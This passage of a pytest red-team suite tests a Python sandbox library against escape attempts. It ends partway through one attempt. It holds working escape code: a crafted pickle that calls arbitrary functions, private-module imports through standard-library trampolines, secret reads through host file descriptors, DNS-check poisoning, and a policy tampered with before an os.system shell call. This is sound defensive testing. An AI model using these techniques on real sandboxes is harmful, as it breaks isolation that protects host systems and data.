"""Red team, round 2: new escape attempts, organised by the review's six weaknesses.

1. trust by the caller's file name (standard-library trampolines that call a callable or
   import a name given as data);
2. deny-lists that fail open (process-wide functions and state no list covers);
3. identity by number or by a value the app controls (descriptors, addresses);
4. the sandbox's own state (the scope, the policy, the report, the deadline);
5. the host consuming app objects later (the middleware, the server, logging, the timer);
6. threads and exits (host threads, exit handlers, signals, asyncio).

Every attempt runs in a child interpreter of its own (``sys.executable -c``), three ways:

* ``plain``: the app code as ordinary Python, no sandbox: the control, which must show the
  effect (so an attempt that could never do harm cannot pass by accident);
* ``enforce``: ``exec`` of the same code inside ``with Sandbox(policy):`` (the default mode);
* ``restricted``: ``Sandbox(policy).exec(source)`` (RestrictedPython), where the source is
  restricted-valid (no ``_`` names) and the mode has something to say.

Each is judged by its real effect on the host, never by an exception: a file on disk (written
by the request, by host code the request steered, or at interpreter exit), a secret the app
printed back, a connection the test's own loopback listener accepted, a marker file a shell
command creates, host state after the request (an interrupted or dead host, a setting, its
stdout, its exit handlers). The child prints ``EFFECT`` when its host-side probe sees the
effect and ``SURVIVED`` (on stdout and stderr) when it got to its end.

An attempt that escapes keeps its test: the sandboxed one is an ``xfail(strict=True)`` whose
reason says what was reached and why no check sees it.
"""

from __future__ import annotations

import importlib.util
import json
import os
import subprocess
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

# -- the child interpreter ----------------------------------------------------------------------

#: The program every attempt runs in. CONFIG (argv[1], JSON) holds the mode, the paths, the
#: listener's port, the policy changes and the attempt's own code: ``setup`` (host code run
#: before the request), ``source`` (the app code), ``after`` (host code run after the
#: request: the probe; it may run another request with ``run_request``).
CHILD = r'''
import json
import logging
import os
import sys
import threading
import time
import traceback

CONFIG = json.loads(sys.argv[1])
MODE = CONFIG["mode"]

from gae_sandbox import Policy, Sandbox, SandboxMiddleware

changes = {key: tuple(value) if isinstance(value, list) else value
           for key, value in CONFIG["policy"].items()}
policy = Policy.python27(app_root=CONFIG["app_root"], deadline=None).replace(**changes)
sandbox = Sandbox(policy)
ns = {
    "__name__": "app",
    "target": CONFIG["target"],
    "outdir": CONFIG["outdir"],
    "secret_path": CONFIG["secret_path"],
    "outside_dir": CONFIG["outside_dir"],
    "app_root": CONFIG["app_root"],
    "port": CONFIG["port"],
    "cmd": "touch '%s'" % CONFIG["marker"],
}


def request(source):
    """One request running ``source`` in the mode under test."""
    if MODE == "plain":
        exec(compile(source, "<app>", "exec"), ns)
    elif MODE == "enforce":
        with sandbox:
            exec(compile(source, "<app>", "exec"), ns)
    else:
        sandbox.exec(source, ns, filename="<app>")


def run_request(source):
    try:
        request(source)
        print("APP COMPLETED", flush=True)
    except BaseException as error:
        print("APP STOPPED", type(error).__name__, str(error)[:300].replace("\n", " "),
              flush=True)


def serve(app):
    """What a WSGI server does with an app, in host code (after wsgiref and waitress):
    re-raise exc_info once headers are out, log and format an app error, iterate the
    body, close it."""
    headers_sent = []

    def start_response(status, headers, exc_info=None):
        if exc_info:
            try:
                if headers_sent:
                    raise exc_info[1].with_traceback(exc_info[2])
            finally:
                exc_info = None

        def write(data):
            headers_sent.append(True)

        return write

    try:
        result = app({"REQUEST_METHOD": "GET", "PATH_INFO": "/"}, start_response)
    except Exception as error:
        logging.getLogger("gae_sandbox").error("request failed", exc_info=error)
        traceback.format_exception(type(error), error, error.__traceback__)
        return
    try:
        for _chunk in result:
            headers_sent.append(True)
    except Exception as error:
        logging.getLogger("gae_sandbox").error("response failed", exc_info=error)
    finally:
        close = getattr(result, "close", None)
        if close is not None:
            close()


exec(compile(CONFIG["setup"], "<host setup>", "exec"))
runner = CONFIG["runner"]
if runner == "request":
    run_request(CONFIG["source"])
elif runner == "thread":  # the request runs in a worker thread; the host waits in main
    worker = threading.Thread(target=run_request, args=(CONFIG["source"],))
    try:
        worker.start()
        worker.join()
        for _ in range(50):
            time.sleep(0.01)
    except BaseException as error:
        print("EFFECT: the host's main thread got", type(error).__name__, flush=True)
        worker.join()
else:  # "wsgi": the app module is imported, then served (through the middleware)
    exec(compile(CONFIG["source"], "<app>", "exec"), ns)
    served = ns["app"] if MODE == "plain" else SandboxMiddleware(ns["app"], policy,
                                                                 sandbox=sandbox)
    try:
        serve(served)
        print("APP COMPLETED", flush=True)
    except BaseException as error:
        print("APP STOPPED", type(error).__name__, flush=True)
exec(compile(CONFIG["after"], "<host after>", "exec"))
print("SURVIVED", flush=True)
os.write(2, b"SURVIVED\n")
'''


@dataclass
class Run:
    """What one child did, and where to look for its effects."""

    returncode: int
    stdout: str
    stderr: str
    target: Path
    marker: Path
    home: Path
    app_root: Path
    listener: Any

    @property
    def survived(self) -> bool:
        return "SURVIVED" in self.stdout or "SURVIVED" in self.stderr

    def __str__(self) -> str:
        return (f"status {self.returncode}\n--- stdout\n{self.stdout[-2000:]}\n"
                f"--- stderr\n{self.stderr[-2000:]}")


def _printed(run: Run) -> bool:
    return "EFFECT" in run.stdout


def _target_written(run: Run) -> bool:
    return run.target.exists()


def _marker_made(run: Run) -> bool:
    return run.marker.exists()


def _connected(run: Run) -> bool:
    return run.listener.settle() > 0


@dataclass(frozen=True)
class Attempt:
    id: str
    weakness: int
    source: str
    setup: str = ""
    after: str = ""
    runner: str = "request"  # "request", "thread" (the request in a worker thread), "wsgi"
    policy: tuple[tuple[str, Any], ...] = ()  # Policy.replace changes ("{port}" formatted)
    effect: Callable[[Run], bool] = _printed
    death: bool = False  # the effect is the host process dying
    restricted: bool = False  # also run in restricted mode
    gap: str | None = None  # default mode escapes: the xfail reason (on every version)
    restricted_gap: str | None = None
    requires: str | None = None  # a module (or module:attribute) the attempt needs


def _has(requirement: str) -> bool:
    """A module (``readline``), or a module's attribute (``os:splice``)."""
    module, _, attribute = requirement.partition(":")
    if importlib.util.find_spec(module) is None:
        return False
    return not attribute or hasattr(importlib.import_module(module), attribute)


WRITE_TARGET = (
    "    with open(target, 'w') as file:\n"
    "        file.write('x')\n"
)
#: app code: ``later()`` writes the target when it runs outside the sandbox (refused inside)
LATER = (
    "def later(*args):\n"
    "    try:\n"
    "        with open(target, 'w') as file:\n"
    "            file.write('x')\n"
    "    except OSError:\n"
    "        pass\n"
)
#: app code: the request's own scope, reached through the context it runs in (or None)
SCOPE = (
    "import contextvars\n"
    "context = contextvars.copy_context()\n"
    "found = [var for var in context if var.name == 'gae_sandbox.active']\n"
    "scope = context[found[0]] if found else None\n"
)
SECRET_READ = "if b'host secret' in bytes(ns.get('result') or b''):\n    print('EFFECT')\n"
#: host set-up: a module beside the secret, outside every readable folder, holding it
OUTSIDE_MODULE = (
    "with open(os.path.join(CONFIG['outside_dir'], 'gae_redteam_outside.py'), 'w') as f:\n"
    "    f.write('SECRET = \"host secret\"\\n')\n"
)

def _entry_finder_swap(finder: str, module: str, then: str) -> str:
    """App code: ``finder`` (source defining ``EntryFinder``) put in
    ``sys.path_importer_cache`` for the standard library's folder (a host ``sys.path``
    entry) while ``import module`` is tried and ``then`` (one line) runs."""
    return (
        "import io\n"
        "import os\n"
        "import sys\n"
        "from importlib.machinery import ModuleSpec\n"
        + finder +
        "entry = os.path.dirname(os.__file__)\n"
        "saved = sys.path_importer_cache.get(entry)\n"
        "sys.path_importer_cache[entry] = EntryFinder()\n"
        "try:\n"
        "    try:\n"
        f"        import {module}\n"
        "    except ImportError:\n"
        "        pass\n"
        f"    {then}\n"
        "finally:\n"
        "    sys.path_importer_cache[entry] = saved\n")


# -- weakness 1: trust by the caller's file name --------------------------------------------------

_PRIVATE_C_IMPORT = (
    "the import gate lets a standard-library frame import any standard-library C module "
    "(importer_trusted looks only at the importing frame's file), so {how} loads the private "
    "C module readline for the app; readline.write_history_file then writes the file in C, "
    "with no audit event")

W1 = [
    Attempt(
        "pkgutil_resolve_name_loads_a_private_c_module", 1,
        "import pkgutil\n"
        "pkgutil.resolve_name('readline:write_history_file')(target)\n",
        effect=_target_written, restricted=True, requires="readline",),
    Attempt(
        "contextlib_exitstack_callback_calls_import_module", 1,
        "import contextlib\n"
        "import importlib\n"
        "import sys\n"
        "with contextlib.ExitStack() as stack:\n"
        "    stack.callback(importlib.import_module, 'readline')\n"
        "sys.modules['readline'].write_history_file(target)\n",
        effect=_target_written, restricted=True, requires="readline",),
    Attempt(
        "logging_config_dictconfig_factory_by_name", 1,
        "import logging.config\n"
        "logging.config.dictConfig({\n"
        "    'version': 1, 'disable_existing_loggers': False,\n"
        "    'filters': {'f': {'()': 'readline.write_history_file'}},\n"
        "})\n",
        effect=lambda run: (run.home / ".history").exists(), restricted=True,
        requires="readline",),
    Attempt(
        "pickle_python_unpickler_find_class", 1,
        "import pickle\n"
        "pickle._loads(b'creadline\\nwrite_history_file\\n(V' + target.encode()"
        " + b'\\ntR.')\n",
        effect=_target_written, requires="readline",),
    Attempt(
        "typing_get_type_hints_string_annotation", 1,
        "import typing\n"
        "def handler(value: \"__import__('readline').write_history_file(target)\"):\n"
        "    pass\n"
        "typing.get_type_hints(handler)\n",
        effect=_target_written, restricted=True, requires="readline"),
    Attempt(
        "operator_methodcaller_import_module", 1,
        "import importlib\n"
        "import operator\n"
        "module = operator.methodcaller('import_module', 'readline')(importlib)\n"
        "module.write_history_file(target)\n",
        effect=_target_written, restricted=True, requires="readline"),
    Attempt(
        "map_in_c_calls_import_module", 1,
        "import importlib\n"
        "[module] = map(importlib.import_module, ['readline'])\n"
        "module.write_history_file(target)\n",
        effect=_target_written, restricted=True, requires="readline"),
    Attempt(
        "bdb_set_trace_leaves_the_apps_tracer", 1,
        "import bdb\n"
        "import logging\n"
        "class Tracer(bdb.Bdb):\n"
        "    def trace_dispatch(self, frame, event, arg):\n"
        "        try:  # a write restricted code can make too\n"
        "            logging.FileHandler(target).close()\n"
        "        except OSError:\n"
        "            pass\n"
        "        return None\n"
        "Tracer().set_trace()\n",
        after="def host_work():\n    return 1\nhost_work()\nsys.settrace(None)\n",
        effect=_target_written, restricted=True,),
    Attempt(
        "atexit_register_clone_of_a_stdlib_function", 1,
        LATER +
        "import atexit\n"
        "import logging\n"
        "import types\n"
        "shutdown = types.FunctionType(logging.shutdown.__code__, {'raiseExceptions': False},\n"
        "                              'shutdown', ([later],))\n"
        "atexit.register(shutdown)\n",
        effect=_target_written,),
    Attempt(
        "weakref_finalize_method_of_a_forged_stdlib_module", 1,
        LATER +
        "import logging\n"
        "import types\n"
        "import weakref\n"
        "class Module(types.ModuleType):\n"
        "    def __getitem__(self, index):\n"
        "        return [later]\n"
        "owner = Module('forged')\n"
        "owner.__file__ = logging.__file__\n"
        "class Holder:\n"
        "    pass\n"
        "keep = Holder()\n"
        "weakref.finalize(keep, types.MethodType(logging.shutdown, owner))\n",
        after="import gc\nns.pop('keep', None)\ngc.collect()\n",
        effect=_target_written,),
    Attempt(
        "meta_path_finder_names_any_file_as_its_module", 1,
        "import importlib.machinery\n"
        "import io\n"
        "import sys\n"
        "class Finder:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        if name == 'gae_redteam_spec':\n"
        "            return importlib.machinery.ModuleSpec(name, None, origin=secret_path)\n"
        "        return None\n"
        "finder = Finder()\n"
        "sys.meta_path.append(finder)\n"
        "try:\n"
        "    try:\n"
        "        import gae_redteam_spec\n"
        "    except ImportError:\n"
        "        pass\n"
        "    result = io.FileIO(secret_path).read()\n"
        "finally:\n"
        "    sys.meta_path.remove(finder)\n",
        after=SECRET_READ,),
    Attempt(
        "sys_path_entry_is_listed_for_anyone", 1,
        "import os\n"
        "import sys\n"
        "sys.path.append(outside_dir)\n"
        "try:\n"
        "    result = os.listdir(outside_dir)\n"
        "finally:\n"
        "    sys.path.remove(outside_dir)\n",
        after="if 'secret.txt' in (ns.get('result') or ()):\n    print('EFFECT')\n",),
    Attempt(
        "sys_path_folder_module_source_read_after_its_import", 1,
        "import io\n"
        "import os\n"
        "import sys\n"
        "sys.path.append(outside_dir)\n"
        "try:\n"
        "    try:\n"
        "        import gae_redteam_outside\n"
        "    except ImportError:\n"
        "        pass\n"
        "    result = io.FileIO(os.path.join(outside_dir, 'gae_redteam_outside.py')).read()\n"
        "finally:\n"
        "    sys.path.remove(outside_dir)\n",
        setup=OUTSIDE_MODULE, after=SECRET_READ,),
    Attempt(
        "package_path_extended_to_an_outside_folder", 1,
        "import email\n"
        "import io\n"
        "import os\n"
        "email.__path__.append(outside_dir)\n"
        "try:\n"
        "    try:\n"
        "        import email.gae_redteam_outside\n"
        "    except ImportError:\n"
        "        pass\n"
        "    result = io.FileIO(os.path.join(outside_dir, 'gae_redteam_outside.py')).read()\n"
        "finally:\n"
        "    email.__path__.remove(outside_dir)\n",
        setup=OUTSIDE_MODULE, after=SECRET_READ,),
    Attempt(
        "path_importer_cache_entry_of_a_host_folder_replaced", 1,
        _entry_finder_swap(
            "class EntryFinder:\n"
            "    def find_spec(self, name, target=None):\n"
            "        if name == 'gae_redteam_cached':\n"
            "            return ModuleSpec(name, None, origin=secret_path)\n"
            "        return None\n",
            "gae_redteam_cached", "result = io.FileIO(secret_path).read()"),
        after=SECRET_READ,),
    Attempt(
        "meta_path_finder_left_for_the_next_request", 1,
        "import importlib.machinery\n"
        "import sys\n"
        "class Finder:\n"
        "    def find_spec(self, name, path=None, target=None):\n"
        "        if name == 'gae_redteam_later':\n"
        "            return importlib.machinery.ModuleSpec(name, None, origin=secret_path)\n"
        "        return None\n"
        "sys.meta_path.append(Finder())\n",
        after=("run_request('import io\\ntry:\\n    import gae_redteam_later\\n'\n"
               "            'except ImportError:\\n    pass\\n'\n"
               "            'result = io.FileIO(secret_path).read()\\n')\n" + SECRET_READ),),
    Attempt(
        "sys_path_entry_appended_by_a_thread_after_its_request", 1,
        "import sys\n"
        "import threading\n"
        "import time\n"
        "def append_later():  # outlives the request, its deadline errors caught\n"
        "    end = time.monotonic() + 0.8\n"
        "    while time.monotonic() < end:\n"
        "        try:\n"
        "            while time.monotonic() < end:\n"
        "                pass\n"
        "        except BaseException:\n"
        "            pass\n"
        "    sys.path.append(outside_dir)\n"
        "threading.Thread(target=append_later, daemon=True).start()\n",
        setup=OUTSIDE_MODULE,
        policy=(("allow_background_threads", True), ("deadline", 0.3),
                ("hard_deadline_grace", 0.1)),
        after=("time.sleep(1.5)\n"
               "run_request('import io, os\\ntry:\\n    import gae_redteam_outside\\n'\n"
               "            'except ImportError:\\n    pass\\n'\n"
               "            'result = io.FileIO(os.path.join(outside_dir, '\n"
               "            '\"gae_redteam_outside.py\")).read()\\n')\n" + SECRET_READ),),
]

# -- weakness 2: deny-lists that fail open -------------------------------------------------------

W2 = [
    Attempt(
        "posix_register_at_fork_is_not_wrapped", 2,
        LATER +
        "import sys\n"
        "sys.modules['posix'].register_at_fork(before=later)\n",
        after="pid = os.fork()\nif pid == 0:\n    os._exit(0)\nos.waitpid(pid, 0)\n",
        effect=_target_written, restricted=True,),
    Attempt(
        "faulthandler_of_the_host_exits_the_process", 2,
        "import sys\n"
        "sys.modules['faulthandler'].dump_traceback_later(0.2, exit=True)\n",
        setup="import faulthandler\n", after="time.sleep(1.5)\n",
        death=True, restricted=True,),
    Attempt(
        "threading_stack_size_for_every_new_thread", 2,
        "import threading\n"
        "threading.stack_size(1 << 20)\n",
        after="if threading.stack_size() != 0:\n    print('EFFECT')\n", restricted=True,),
    Attempt(
        "tracemalloc_start_traces_the_whole_process", 2,
        "import tracemalloc\n"
        "tracemalloc.start(25)\n",
        after="import tracemalloc\nif tracemalloc.is_tracing():\n    print('EFFECT')\n",
        restricted=True,),
    Attempt(
        "locale_textdomain_is_process_wide", 2,
        "import locale\n"
        "locale.textdomain('gae_redteam')\n",
        after="import locale\nif locale.textdomain(None) == 'gae_redteam':\n"
              "    print('EFFECT')\n",
        restricted=True,),
    Attempt(
        "atexit_clear_drops_the_hosts_exit_handlers", 2,
        "import atexit\n"
        "atexit._clear()\n",
        setup="import atexit\n"
              "def host_exit():\n"
              "    open(os.path.join(CONFIG['outdir'], 'host_exit'), 'w').close()\n"
              "atexit.register(host_exit)\n",
        effect=lambda run: not (run.target.parent / "host_exit").exists(),),
    Attempt(
        "atexit_unregister_of_the_hosts_logging_shutdown", 2,
        "import atexit\n"
        "import logging\n"
        "atexit.unregister(logging.shutdown)\n",
        setup="import logging.handlers\n"
              "host_log = os.path.join(CONFIG['outdir'], 'host.log')\n"
              "buffered = logging.handlers.MemoryHandler(\n"
              "    1000, flushLevel=logging.CRITICAL + 1, target=logging.FileHandler(host_log))\n"
              "host_logger = logging.getLogger('host')\n"
              "host_logger.propagate = False\n"
              "host_logger.addHandler(buffered)\n"
              "host_logger.error('a host record')\n",
        effect=lambda run: "a host record" not in (
            run.target.parent / "host.log").read_text(),
        restricted=True,),
    Attempt(
        "warnings_simplefilter_error_for_the_host", 2,
        "import warnings\n"
        "warnings.simplefilter('error')\n",
        after="import warnings\n"
              "try:\n"
              "    warnings.warn('a host warning', UserWarning)\n"
              "except UserWarning:\n"
              "    print('EFFECT')\n",
        restricted=True,
        gap="warnings.filters is one process-wide list and simplefilter changes it with no "
            "audit event: the host's warnings now raise"),
    Attempt(
        "logging_disable_silences_the_host", 2,
        "import logging\n"
        "logging.disable(logging.CRITICAL)\n",
        setup="host_records = []\n"
              "class HostHandler(logging.Handler):\n"
              "    def emit(self, record):\n"
              "        host_records.append(record)\n"
              "logging.getLogger('host').addHandler(HostHandler())\n",
        after="logging.getLogger('host').error('a host error')\n"
              "if not host_records:\n"
              "    print('EFFECT')\n",
        restricted=True,),
    Attempt(
        "gc_callbacks_run_in_the_hosts_collections", 2,
        LATER +
        "import gc\n"
        "gc.callbacks.append(later)\n",
        after="import gc\ngc.collect()\n", effect=_target_written, restricted=True,),
    Attempt(
        "gc_callbacks_reached_by_from_import_and_the_module_dict", 2,
        LATER +
        "import sys\n"
        "gc = sys.modules['gc']\n"
        "for get in (lambda: __import__('gc', fromlist=['callbacks']).callbacks,\n"
        "            lambda: vars(gc)['callbacks'], lambda: getattr(gc, 'callbacks'),\n"
        "            lambda: gc.__dict__.get('callbacks')):\n"
        "    try:\n"
        "        found = get()\n"
        "    except Exception:\n"
        "        continue\n"
        "    if isinstance(found, list):\n"
        "        found.append(later)\n"
        "        break\n",
        after="import gc\ngc.collect()\n", effect=_target_written, restricted=True,),
    Attempt(
        "os_environ_data_reaches_the_host", 2,
        "import os\n"
        "os.environ._data[b'GAE_REDTEAM'] = b'from the request'\n",
        after="if os.environ.get('GAE_REDTEAM'):\n    print('EFFECT')\n"),
    Attempt(
        "posix_environ_is_the_hosts_storage", 2,
        "import sys\n"
        "sys.modules['posix'].environ[b'GAE_REDTEAM'] = b'from the request'\n",
        after="if os.environ.get('GAE_REDTEAM'):\n    print('EFFECT')\n"),
    Attempt(
        "os_environb_data_reaches_the_host", 2,
        "import os\n"
        "os.environb._data.update({b'GAE_REDTEAM': b'from the request'})\n",
        after="if os.environ.get('GAE_REDTEAM'):\n    print('EFFECT')\n"),
    Attempt(
        "dict_setitem_on_the_environ_storage", 2,
        "import os\n"
        "data = os.environ._data\n"
        "try:\n"
        "    dict.__setitem__(data, b'GAE_REDTEAM', b'from the request')\n"
        "except TypeError:  # not a dict inside the sandbox\n"
        "    pass\n"
        "for key in list(data):  # nor does deleting through it reach the host\n"
        "    if key == b'GAE_REDTEAM_HOST':\n"
        "        del data[key]\n",
        setup="os.environ['GAE_REDTEAM_HOST'] = 'kept'\n",
        after="if os.environ.get('GAE_REDTEAM') or 'GAE_REDTEAM_HOST' not in os.environ:\n"
              "    print('EFFECT')\n"),
]

# -- weakness 3: identity by number or by a value the app controls ------------------------------

_HOST_FD = "ns['hostfd'] = os.open(CONFIG['secret_path'], os.O_RDONLY)\n"
#: host code: an event loop watching a pipe, its descriptor numbers given to the app
_HOST_EPOLL = ("import select\n"
               "host_epoll = select.epoll()\n"
               "host_read, host_write = os.pipe()\n"
               "host_epoll.register(host_read, select.EPOLLIN)\n"
               "ns['epfd'], ns['watched'] = host_epoll.fileno(), host_read\n")
#: host code after the request: the effect if the loop no longer sees its pipe, or is closed
_HOST_EPOLL_CHANGED = ("os.write(host_write, b'x')\n"
                       "try:\n"
                       "    if not host_epoll.poll(0):\n"
                       "        print('EFFECT: the host loop no longer sees its descriptor')\n"
                       "except (OSError, ValueError):\n"
                       "    print('EFFECT: the host loop was closed')\n")

W3 = [
    Attempt(
        "sendfile_from_a_host_descriptor", 3,
        "import os\n"
        "read_end, write_end = os.pipe()\n"
        "os.sendfile(write_end, hostfd, 0, 64)\n"
        "result = os.read(read_end, 64)\n",
        setup=_HOST_FD, after=SECRET_READ, restricted=True,),
    Attempt(
        "splice_from_a_host_descriptor", 3,
        "import os\n"
        "read_end, write_end = os.pipe()\n"
        "os.splice(hostfd, write_end, 64, offset_src=0)\n"
        "result = os.read(read_end, 64)\n",
        setup=_HOST_FD, after=SECRET_READ,),
    Attempt(
        "open_opener_returns_a_host_descriptor", 3,
        "with open(app_root + '/data.txt', 'rb', opener=lambda path, flags: hostfd) as file:\n"
        "    result = file.read()\n",
        setup=_HOST_FD, after=SECRET_READ, restricted=True),
    Attempt(
        "io_open_opener_returns_an_int_subclass_of_a_host_descriptor", 3,
        "import io\n"
        "class Number(int):\n"
        "    pass\n"
        "with io.open(app_root + '/data.txt', 'rb', 0, None, None, None, True,\n"
        "             lambda path, flags: Number(hostfd)) as file:\n"
        "    result = file.read()\n",
        setup=_HOST_FD, after=SECRET_READ),
    Attempt(
        "private_io_open_with_a_c_callable_opener", 3,
        "import _io\n"
        "import pathlib\n"
        "opener = {str(pathlib.Path(app_root, 'data.txt')): hostfd}.get  # a C callable\n"
        "with _io.open(str(pathlib.Path(app_root, 'data.txt')), 'r', opener=opener) as file:\n"
        "    result = file.read().encode()\n",
        setup=_HOST_FD, after=SECRET_READ),
    Attempt(
        "open_opener_returns_a_host_descriptor_in_memory_mode", 3,
        "with open(app_root + '/data.txt', 'rb', opener=lambda path, flags: hostfd) as file:\n"
        "    result = file.read()\n",
        setup=_HOST_FD, after=SECRET_READ, policy=(("filesystem", "memory"),),
        requires="pyfakefs"),
    Attempt(
        "fileio_type_opener_returns_a_host_descriptor", 3,
        "import io\n"
        "with io.FileIO(app_root + '/data.txt', 'r', opener=lambda path, flags: hostfd) as file:\n"
        "    result = file.read()\n",
        setup=_HOST_FD, after=SECRET_READ,
        gap="io.FileIO is the C type _io.FileIO, immutable (its __init__ cannot be replaced) "
            "and reachable from any raw file (type(f)); its only audit event ('open', the "
            "path) comes before it calls the opener, and nothing is raised after, so the "
            "descriptor it adopts is never seen: open(), io.open and _io.open judge it, a "
            "direct FileIO(name, opener=) does not"),
    Attempt(
        "listdir_of_a_host_directory_descriptor", 3,
        "import os\n"
        "result = os.listdir(hostdirfd)\n",
        setup="ns['hostdirfd'] = os.open(CONFIG['outside_dir'], os.O_RDONLY)\n",
        after="if 'secret.txt' in (ns.get('result') or ()):\n    print('EFFECT')\n",),
    Attempt(
        "o_path_descriptor_of_an_outside_folder", 3,
        "import os\n"
        "folder = os.open(outside_dir, os.O_PATH | os.O_DIRECTORY)\n"
        "secret = os.open('secret.txt', os.O_RDONLY, dir_fd=folder)\n"
        "result = os.read(secret, 64)\n",
        after=SECRET_READ),
    Attempt(
        "dup2_over_the_hosts_stdout", 3,
        "import os\n"
        "read_end, write_end = os.pipe()\n"
        "os.dup2(write_end, 1)\n",
        setup="print('BEFORE', flush=True)\n", after="print('HOSTLINE', flush=True)\n",
        effect=lambda run: "BEFORE" in run.stdout and "HOSTLINE" not in run.stdout,),
    Attempt(
        "dup2_host_writer_over_own_descriptor_of_the_same_file", 3,
        "import os\n"
        "own = os.open(app_root + '/host.log', os.O_RDONLY)\n"
        "os.dup2(logfd, own)\n"
        "os.write(own, b'written by the request')\n",
        setup="ns['logfd'] = os.open(os.path.join(CONFIG['app_root'], 'host.log'),\n"
              "                      os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o644)\n",
        effect=lambda run: "written by the request" in (
            run.app_root / "host.log").read_text(),),
    Attempt(
        "getaddrinfo_str_subclass_poisons_resolved_hosts", 3,
        "import socket\n"
        "class Host(str):\n"
        "    def __str__(self):\n"
        "        return 'api.allowed.example'\n"
        "socket.getaddrinfo(Host('127.0.0.1'), port)\n"
        "socket.create_connection(('127.0.0.1', port), timeout=5).close()\n",
        policy=(("allowed_hosts", ("api.allowed.example:{port}",)),), effect=_connected,),
    Attempt(
        "getaddrinfo_bytes_subclass_poisons_resolved_hosts", 3,
        "import socket\n"
        "class Host(bytes):\n"
        "    def decode(self, *args, **kwargs):\n"
        "        return 'api.allowed.example'\n"
        "socket.getaddrinfo(Host(b'127.0.0.1'), port)\n"
        "socket.create_connection(('127.0.0.1', port), timeout=5).close()\n",
        policy=(("allowed_hosts", ("api.allowed.example:{port}",)),), effect=_connected,),
    Attempt(
        "epoll_fromfd_adopts_the_hosts_event_loop", 3,
        "import select\n"
        "adopted = select.epoll.fromfd(epfd)\n"
        "adopted.unregister(watched)\n"
        "adopted.close()\n",
        setup=_HOST_EPOLL,
        after=_HOST_EPOLL_CHANGED,
        restricted=True),
    Attempt(
        "epoll_fromfd_through_the_type_of_an_instance", 3,
        "import select\n"
        "own = select.epoll()\n"
        "adopted = type(own).fromfd(epfd)\n"
        "adopted.unregister(watched)\n"
        "adopted.close()\n",
        setup=_HOST_EPOLL,
        after=_HOST_EPOLL_CHANGED),
    Attempt(
        "epoll_fromfd_closes_the_hosts_selector", 3,
        "import select\n"
        "import functools\n"
        "adopt = functools.partial(select.epoll.fromfd)  # called from C\n"
        "adopt(selector_fd).close()\n",
        setup="import selectors\n"
              "host_selector = selectors.EpollSelector()\n"
              "host_read, host_write = os.pipe()\n"
              "host_selector.register(host_read, selectors.EVENT_READ)\n"
              "ns['selector_fd'] = host_selector.fileno()\n",
        after="os.write(host_write, b'x')\n"
              "try:\n"
              "    if not host_selector.select(0):\n"
              "        print('EFFECT: the host selector sees nothing')\n"
              "except (OSError, ValueError):\n"
              "    print('EFFECT: the host selector was closed')\n"),
    Attempt(
        "epoll_fromfd_of_a_number_its_own_loop_had", 3,
        "import os\n"
        "import select\n"
        "own = select.epoll()\n"
        "number = own.fileno()\n"
        "own.close()\n"
        "host_reopens(number)\n"
        "select.epoll.fromfd(number).close()\n",
        setup="import select\n"
              "import gae_sandbox.context as sandbox_context\n"
              "host_read, host_write = os.pipe()\n"
              "host_loop = []\n"
              "def host_reopens(number):  # the host's next event loop gets the freed number\n"
              "    with sandbox_context.unsandboxed():\n"
              "        loop = select.epoll()\n"
              "        if loop.fileno() != number:\n"
              "            os.dup2(loop.fileno(), number)\n"
              "            loop.close()\n"
              "            loop = select.epoll.fromfd(number)\n"
              "        loop.register(host_read, select.EPOLLIN)\n"
              "        host_loop.append(loop)\n"
              "ns['host_reopens'] = host_reopens\n",
        after="os.write(host_write, b'x')\n"
              "try:\n"
              "    if not host_loop[0].poll(0):\n"
              "        print('EFFECT: the host loop no longer sees its descriptor')\n"
              "except (OSError, ValueError, IndexError):\n"
              "    print('EFFECT: the host loop was closed')\n"),
]

# -- weakness 4: the sandbox's own state ---------------------------------------------------------

W4 = [
    Attempt(
        "copy_context_finds_and_clears_the_active_scope", 4,
        "import contextvars\n"
        "context = contextvars.copy_context()\n"
        "found = [var for var in context if var.name == 'gae_sandbox.active']\n"
        "token = found[0].set(None) if found else None\n"
        "try:\n" + WRITE_TARGET +
        "finally:\n"
        "    if token is not None:\n"
        "        found[0].reset(token)\n",
        effect=_target_written, restricted=True,),
    Attempt(
        "scope_layer_widened_for_the_next_request", 4,
        SCOPE +
        "if scope is not None:\n"
        "    for layer in scope.layers:\n"
        "        layer.readable_roots = ('/',)\n",
        after="run_request('with open(secret_path, \"rb\") as file:\\n"
              "    result = file.read()\\n')\n" + SECRET_READ,
        restricted=True,),
    Attempt(
        "policy_frozen_dataclass_changed_through_current_sandbox", 4,
        "import gae_sandbox\n"
        "import os\n"
        "view = gae_sandbox.current_sandbox()\n"
        "if view is not None:\n"
        "    object.__setattr__(view.policy, 'allow_processes', True)\n"
        "os.system(cmd)\n",
        effect=_marker_made,),
    Attempt(
        "confine_process_of_the_public_api", 4,
        "import gae_sandbox\n"
        "gae_sandbox.confine_process(gae_sandbox.Policy.python27(\n"
        "    app_root=app_root, os_confinement='best_effort'))\n",
        after="try:\n"
              "    with open(os.path.join(CONFIG['outdir'], 'host_write'), 'w') as file:\n"
              "        file.write('host data')\n"
              "except OSError:\n"
              "    print('EFFECT')\n",
        restricted=True),
    Attempt(
        "uninstall_of_the_public_api", 4,
        "import gae_sandbox\n"
        "gae_sandbox.uninstall()\n",
        setup="import gae_sandbox\ngae_sandbox.install()\n",
        after="if not gae_sandbox.is_installed():\n    print('EFFECT')\n", restricted=True),
    Attempt(
        "deadline_cancelled_through_the_scope", 4,
        SCOPE +
        "import time\n"
        "if scope is not None:\n"
        "    scope.deadline.cancel()\n"
        "for step in range(30):\n"
        "    time.sleep(0.02)\n"
        "done = True\n",
        policy=(("deadline", 0.2), ("hard_deadline_grace", 0.2)),
        after="if ns.get('done'):\n    print('EFFECT')\n", restricted=True,),
    # the context carries an opaque ticket; the thread running the scope is marked with it
    Attempt(
        "context_variable_set_to_a_forged_value", 4,
        "import contextvars\n"
        "found = [var for var in contextvars.copy_context() if var.name == 'gae_sandbox.active']\n"
        "if found:\n"
        "    found[0].set(object())\n"
        "try:\n" + WRITE_TARGET +
        "except OSError:\n"
        "    pass\n",
        effect=_target_written),
    Attempt(
        "context_variable_set_to_a_new_ticket_of_the_same_class", 4,
        SCOPE +
        "import copy\n"
        "forged = []\n"
        "if scope is not None:\n"
        "    forged = [type(scope)(), copy.copy(scope)]\n"
        "for ticket in forged:\n"
        "    found[0].set(ticket)\n"
        "    try:\n"
